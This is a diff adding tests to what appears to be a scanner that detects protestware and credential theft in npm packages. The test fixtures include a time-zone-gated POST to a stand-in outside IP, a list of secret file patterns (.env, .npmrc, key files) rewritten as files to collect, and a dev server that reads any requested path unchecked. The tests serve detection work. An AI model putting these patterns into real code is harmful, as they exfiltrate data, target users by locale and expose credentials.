@@ -270,3 +270,66 @@ def test_node_dot_in_an_install_hook_runs_the_main_file_at_install_time(tmp_path
     report = run_exam(tgz, ONLY_BEHAVIOUR)
     contexts = {f.evidence.details.get("context") for f in findings(report, "thr-shell-downloader")}
     assert "install" in contexts
+
+
+# a minified application bundle (jupyterlab 4.6.6's jlab_core, notebook 7.6.5's notebook_core):
+# one function keeps the language in `s`, another function's own `s` decides whether to open a
+# page; webpack's one-letter names are reused in every function
+_BUNDLE = (
+    "(()=>{var t={};function a(e){let s=navigator.language;return e.format(s)}"
+    "function b(e,t){let s=t.get('fetchNews');if(s){window.open(e.url,'_blank')}}"
+    "t.a=a,t.b=b,module.exports=t})();"
+)
+
+
+def test_a_minified_name_holds_the_language_only_in_its_own_function(tmp_path: Path) -> None:
+    honest = npm_package(tmp_path, "labcore", {"index.js": _BUNDLE})
+    assert blocking(run_exam(honest, ONLY_BEHAVIOUR)) == set()
+    # the language read in the same function that opens the page gates it
+    gated = _BUNDLE.replace("let s=t.get('fetchNews');", "let s=navigator.language==='ru-RU';")
+    report = run_exam(npm_package(tmp_path, "labgated", {"index.js": gated}), ONLY_BEHAVIOUR)
+    assert "prot-locale-gated-action" in blocking(report)
+
+
+# ray 2.60.0's dashboard bundle formats job times in the browser's time zone at load
+_DASHBOARD = (
+    "const zone = (opts && opts.timeZone) || Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
+    "fetch('/api/jobs').then(r => r.json()).then(jobs => render(jobs, zone));\n"
+    "function render(jobs, zone) {\n"
+    "  return jobs.map(j => new Date(j.start).toLocaleString('en-US', { timeZone: zone }));\n"
+    "}\n"
+)
+
+
+def test_a_time_zone_read_to_format_dates_does_not_block(tmp_path: Path) -> None:
+    honest = npm_package(tmp_path, "dashboard", {"index.js": _DASHBOARD})
+    assert blocking(run_exam(honest, ONLY_BEHAVIOUR)) == set()
+    # the time zone choosing whom to post to is protestware
+    gated = _DASHBOARD.replace(
+        "fetch('/api/jobs')",
+        "if (zone === 'Europe/Moscow') fetch('https://203.0.113.9/x', { method: 'POST' });\n"
+        "fetch('/api/jobs')",
+    )
+    report = run_exam(npm_package(tmp_path, "zonegate", {"index.js": gated}), ONLY_BEHAVIOUR)
+    assert "prot-locale-gated-action" in blocking(report)
+
+
+# vite 8.4.1's dev server refuses to serve secrets: server.fs.deny
+_DEV_SERVER = """\
+const fs = require('fs'), path = require('path'), http = require('http');
+const serverConfigDefaults = Object.freeze({
+  port: 5173,
+  fs: { strict: true, deny: ['.env', '.env.*', '*.{crt,pem,key,p12,pfx,cer,der}', '.npmrc'] },
+});
+http.createServer((req, res) => res.end(fs.readFileSync(path.join(process.cwd(), req.url))));
+module.exports = { serverConfigDefaults };
+"""
+
+
+def test_a_list_of_files_a_server_refuses_is_not_a_reach_for_them(tmp_path: Path) -> None:
+    honest = npm_package(tmp_path, "devserver", {"index.js": _DEV_SERVER})
+    assert blocking(run_exam(honest, ONLY_BEHAVIOUR)) == set()
+    # the same names as a list of files to collect are
+    collecting = _DEV_SERVER.replace("deny: [", "collect: [")
+    report = run_exam(npm_package(tmp_path, "collector", {"index.js": collecting}), ONLY_BEHAVIOUR)
+    assert "thr-cloud-credentials" in blocking(report)
